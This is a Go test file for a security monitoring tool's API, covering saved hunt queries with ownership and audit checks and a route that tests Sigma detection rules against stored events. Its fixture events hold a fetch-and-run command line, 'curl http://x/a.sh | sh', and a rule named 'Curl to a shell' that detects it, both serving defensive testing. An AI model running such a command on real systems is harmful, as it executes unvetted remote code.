package web

import (
	"context"
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/vigil-iot/vigil"
	"github.com/vigil-iot/vigil/auth"
	"github.com/vigil-iot/vigil/store"
	"github.com/vigil-iot/vigil/web/api"
)

// TestSavedQueryRoutes saves, lists, replaces and deletes hunt queries
// through the API: the author is the caller and owns the query; an
// unshared query is listed to its author and to admins only, a shared one
// to everyone; another writer saving the same name gets a query of its
// own, and may neither change nor delete the author's (403) while an
// admin may; a bad query is refused with its position; a viewer may list
// and not write; writes are audited.
func TestSavedQueryRoutes(t *testing.T) {
	e := newEnv(t, func(o *Options) {
		o.Extra = SavedQueryRoutes(SavedQueriesAPI{Store: o.Store, Clock: fixedClock(now)})
	})
	plain, _, err := e.tokens.Create("test-analyst2", auth.RoleAnalyst)
	if err != nil {
		t.Fatal(err)
	}
	e.tok["analyst2"] = plain
	list := func(role string) string {
		t.Helper()
		code, body, _ := e.do("GET", "/api/v1/hunt/saved", role, "")
		if code != 200 {
			t.Fatalf("list as %s = %d %s", role, code, body)
		}
		var l api.List[store.SavedQuery]
		if err := json.Unmarshal(body, &l); err != nil {
			t.Fatal(err)
		}
		var out []string
		for _, q := range l.Items {
			out = append(out, fmt.Sprintf("%s/%s=%s shared=%v", q.Author, q.Name, q.Query, q.Shared))
		}
		return strings.Join(out, ", ")
	}
	code, body, _ := e.do("POST", "/api/v1/hunt/saved", "analyst", `{"name":" curl/sh ","query":"process.command_line=*curl* | stats count by device.id"}`)
	if code != 201 {
		t.Fatalf("save = %d %s", code, body)
	}
	var q store.SavedQuery
	json.Unmarshal(body, &q)
	if q.Name != "curl/sh" || q.Author != "token:test-analyst" || q.Shared || !q.Created.Equal(now) {
		t.Fatalf("saved %+v", q)
	}
	for _, bad := range []struct{ body, want string }{
		{`{"name":"x","query":"| stats count by"}`, "position"},
		{`{"name":"","query":"kind=auth"}`, "want 1 to 100 characters"},
		{`{"name":"x","query":""}`, "query"},
	} {
		code, body, _ := e.do("POST", "/api/v1/hunt/saved", "analyst", bad.body)
		if code != 400 || !strings.Contains(string(body), bad.want) {
			t.Errorf("save %s = %d %s, want 400 saying %q", bad.body, code, body, bad.want)
		}
	}
	if code, _, _ := e.do("POST", "/api/v1/hunt/saved", "viewer", `{"name":"v","query":"kind=auth"}`); code != 403 {
		t.Errorf("save as viewer = %d, want 403", code)
	}
	mine := "token:test-analyst/curl/sh=process.command_line=*curl* | stats count by device.id shared=false"
	if got := list("analyst"); got != mine {
		t.Errorf("the author's list = %s", got)
	}
	if got := list("analyst2"); got != "" {
		t.Errorf("another analyst sees an unshared query: %s", got)
	}
	if got := list("viewer"); got != "" {
		t.Errorf("a viewer sees an unshared query: %s", got)
	}
	if got := list("admin"); got != mine {
		t.Errorf("the admin's list = %s", got)
	}
	// Another analyst: the same name is a query of its own; the author's
	// cannot be changed nor deleted by it.
	if code, body, _ := e.do("POST", "/api/v1/hunt/saved", "analyst2", `{"name":"curl/sh","query":"kind=auth","shared":true}`); code != 201 {
		t.Fatalf("save of the same name by another = %d %s", code, body)
	}
	if code, body, _ := e.do("POST", "/api/v1/hunt/saved", "analyst2", `{"name":"curl/sh","query":"kind=net","author":"token:test-analyst"}`); code != 403 {
		t.Errorf("change of another's query = %d %s, want 403", code, body)
	}
	if code, body, _ := e.do("DELETE", "/api/v1/hunt/saved/"+url.PathEscape("curl/sh")+"?author=token:test-analyst", "analyst2", ""); code != 403 {
		t.Errorf("delete of another's query = %d %s, want 403", code, body)
	}
	theirs := "token:test-analyst2/curl/sh=kind=auth shared=true"
	if got := list("analyst"); got != mine+", "+theirs {
		t.Errorf("the author's list with a shared one = %s", got)
	}
	if got := list("viewer"); got != theirs {
		t.Errorf("the viewer's list = %s", got)
	}
	// An admin changes the author's query in place (the author stays), and
	// may not invent a query for someone.
	if code, body, _ := e.do("POST", "/api/v1/hunt/saved", "admin", `{"name":"curl/sh","query":"kind=process","author":"token:test-analyst"}`); code != 201 {
		t.Fatalf("admin's change = %d %s", code, body)
	}
	if code, _, _ := e.do("POST", "/api/v1/hunt/saved", "admin", `{"name":"nope","query":"kind=process","author":"token:test-analyst"}`); code != 404 {
		t.Errorf("admin's change of a missing query = %d, want 404", code)
	}
	if got := list("analyst"); got != "token:test-analyst/curl/sh=kind=process shared=false, "+theirs {
		t.Errorf("after the admin's change = %s", got)
	}
	if code, _, _ := e.do("DELETE", "/api/v1/hunt/saved/"+url.PathEscape("curl/sh"), "viewer", ""); code != 403 {
		t.Fatalf("delete as viewer = %d, want 403", code)
	}
	if code, body, _ := e.do("DELETE", "/api/v1/hunt/saved/"+url.PathEscape("curl/sh"), "analyst", ""); code != 204 {
		t.Fatalf("delete = %d %s", code, body)
	}
	if code, _, _ := e.do("DELETE", "/api/v1/hunt/saved/"+url.PathEscape("curl/sh"), "analyst", ""); code != 404 {
		t.Fatalf("delete again = %d, want 404", code)
	}
	if code, body, _ := e.do("DELETE", "/api/v1/hunt/saved/"+url.PathEscape("curl/sh")+"?author=token:test-analyst2", "admin", ""); code != 204 {
		t.Fatalf("admin's delete of another's = %d %s", code, body)
	}
	if got := list("admin"); got != "" {
		t.Errorf("left: %s", got)
	}
	recs, err := e.store.ListAudit(context.Background(), 0, 0)
	if err != nil {
		t.Fatal(err)
	}
	var ok []string
	for _, r := range recs {
		if r.Outcome == vigil.OutcomeOK {
			ok = append(ok, r.Actor+" "+r.Action+" "+r.Object+" "+r.Detail)
		}
	}
	want := []string{
		`token:test-analyst hunt.save hunt:curl/sh saved "process.command_line=*curl* | stats count by device.id"`,
		`token:test-analyst2 hunt.save hunt:curl/sh saved "kind=auth" shared`,
		`token:test-admin hunt.save hunt:curl/sh saved "kind=process" of token:test-analyst`,
		`token:test-analyst hunt.unsave hunt:curl/sh deleted the saved query`,
		`token:test-admin hunt.unsave hunt:curl/sh deleted the saved query of token:test-analyst2`,
	}
	if strings.Join(ok, "\n") != strings.Join(want, "\n") {
		t.Errorf("audit ok =\n%s\nwant\n%s", strings.Join(ok, "\n"), strings.Join(want, "\n"))
	}
}

const testRule = `title: Curl to a shell
id: 3b1d6a8e-0000-4000-8000-000000000001
logsource:
  category: process_creation
detection:
  selection:
    CommandLine|contains: curl
  filter:
    User: root
  condition: selection and not filter
level: high
`

// TestRuleTestRoute evaluates a pasted Sigma rule on the most recent
// stored events: the matches with their explanation, the limit, the time
// range, bad YAML refused with its line, viewers refused, nothing stored.
func TestRuleTestRoute(t *testing.T) {
	e := newEnv(t, func(o *Options) {
		o.Extra = RuleTestRoutes(&RuleTest{Store: o.Store, Clock: fixedClock(now)})
	})
	var evs []vigil.Event
	for i := range 1500 {
		user := "alice"
		if i%4 == 0 {
			user = "root"
		}
		evs = append(evs, vigil.Event{ID: fmt.Sprint("e", i), Time: now.Add(-time.Duration(i) * time.Minute), DeviceID: fmt.Sprint("cam-", i%3), Kind: "process",
			Fields: map[string]any{"process.command_line": []string{"curl http://x/a.sh | sh", "sshd"}[i%2], "user.name": user}})
	}
	if err := e.store.PutEvents(t.Context(), evs); err != nil {
		t.Fatal(err)
	}
	post := func(role string, in RuleTestRequest, want int) (RuleTestResponse, string) {
		t.Helper()
		b, _ := json.Marshal(in)
		code, body, _ := e.do("POST", "/api/v1/rules/test", role, string(b))
		if code != want {
			t.Fatalf("rule test as %s = %d %s, want %d", role, code, body, want)
		}
		var res RuleTestResponse
		json.Unmarshal(body, &res)
		return res, string(body)
	}
	// All 1500: curl on even i, root on i%4==0: 375 match (e2, e6, ...).
	res, _ := post("analyst", RuleTestRequest{RuleYAML: testRule}, 200)
	if res.Rules != 1 || res.Scanned != 1500 || res.Matched != 375 || len(res.Items) != 375 || res.Truncated {
		t.Fatalf("rules %d scanned %d matched %d items %d", res.Rules, res.Scanned, res.Matched, len(res.Items))
	}
	first := res.Items[0] // newest first: e2
	if first.EventID != "e2" || first.DeviceID != "cam-2" || res.Items[374].EventID != "e1498" || first.RuleID != "3b1d6a8e-0000-4000-8000-000000000001" ||
		fmt.Sprint(first.Selections) != "[selection]" || len(first.Matches) != 1 || first.Matches[0].Value != "curl http://x/a.sh | sh" {
		t.Fatalf("first match %+v", first)
	}
	// The 100 most recent: e0..e99, 25 match.
	if res, _ = post("admin", RuleTestRequest{RuleYAML: testRule, Limit: 100}, 200); res.Scanned != 100 || res.Matched != 25 || res.Items[24].EventID != "e98" {
		t.Fatalf("limit 100: scanned %d matched %d", res.Scanned, res.Matched)
	}
	// The last hour: e0..e60 (since inclusive).
	if res, _ = post("analyst", RuleTestRequest{RuleYAML: testRule, Since: "-1h"}, 200); res.Scanned != 61 || !res.From.Equal(now.Add(-time.Hour)) {
		t.Fatalf("since -1h: scanned %d from %v", res.Scanned, res.From)
	}
	for _, bad := range []struct {
		yaml string
		want string
	}{
		{"title: x\ndetection:\n  selection:\n    a: [1\n", "line 3"},
		{"title: x\nlogsource:\n  product: linux\ndetection:\n  selection:\n    a: b\n  condition: selection and nope\n", "line "},
		{"", "paste a Sigma rule"},
	} {
		_, body := post("analyst", RuleTestRequest{RuleYAML: bad.yaml}, 400)
		if !strings.Contains(body, bad.want) {
			t.Errorf("rule %q: %s, want %q", bad.yaml, body, bad.want)
		}
	}
	post("analyst", RuleTestRequest{RuleYAML: testRule, Limit: MaxRuleTestEvents + 1}, 400)
	post("viewer", RuleTestRequest{RuleYAML: testRule}, 403)
	if as, _, _ := e.store.ListAlerts(t.Context(), store.AlertFilter{}); len(as) != 0 {
		t.Errorf("a rule test stored %d alerts", len(as))
	}
}
